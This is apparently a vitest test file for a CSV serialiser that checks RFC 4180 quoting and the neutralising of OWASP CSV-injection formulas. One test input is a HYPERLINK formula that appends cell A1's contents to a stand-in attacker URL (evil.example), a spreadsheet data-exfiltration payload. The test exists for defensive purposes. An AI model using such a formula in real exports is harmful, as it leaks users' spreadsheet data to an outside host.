import { describe, expect, it } from "vitest";
import { csvField, csvLine } from "./csv.ts";

describe("CSV fields (RFC 4180)", () => {
  it("leaves plain text alone and empties null and undefined", () => {
    expect(csvLine(["alpha", 42, null, undefined, true])).toBe("alpha,42,,,true\r\n");
  });

  it("quotes a comma, a quote or a line break, doubling quotes", () => {
    expect(csvField("a,b")).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField("two\nlines")).toBe('"two\nlines"');
  });

  it("writes timestamps as ISO 8601 and objects as JSON", () => {
    expect(csvField(new Date(Date.UTC(2026, 2, 1, 12, 0, 5)))).toBe("2026-03-01T12:00:05.000Z");
    expect(csvField({ code: "E1", retry: true })).toBe('"{""code"":""E1"",""retry"":true}"');
  });
});

describe("CSV cells a spreadsheet would run (OWASP CSV injection)", () => {
  it("puts a ' before text starting with =, +, -, @, tab or carriage return", () => {
    expect(csvField("=1+1")).toBe("'=1+1");
    expect(csvField("+SUM(A1:A9)")).toBe("'+SUM(A1:A9)");
    expect(csvField("-2+3")).toBe("'-2+3");
    expect(csvField("@SUM(A1)")).toBe("'@SUM(A1)");
    expect(csvField("\t=cmd")).toBe("'\t=cmd");
    // Quoted as well, since it holds a carriage return.
    expect(csvField("\r=cmd")).toBe('"\'\r=cmd"');
  });

  it("neutralises a HYPERLINK formula, keeping RFC 4180 quoting", () => {
    expect(csvField('=HYPERLINK("https://evil.example?"&A1,"open")')).toBe(
      '"\'=HYPERLINK(""https://evil.example?""&A1,""open"")"',
    );
  });

  it("leaves text that only contains those characters, and numbers, alone", () => {
    expect(csvField("invoice-bot")).toBe("invoice-bot");
    expect(csvField("a=b")).toBe("a=b");
    expect(csvField("user@example.com")).toBe("user@example.com");
    expect(csvField(-5)).toBe("-5");
    expect(csvField({ formula: "=1+1" })).toBe('"{""formula"":""=1+1""}"');
  });
});
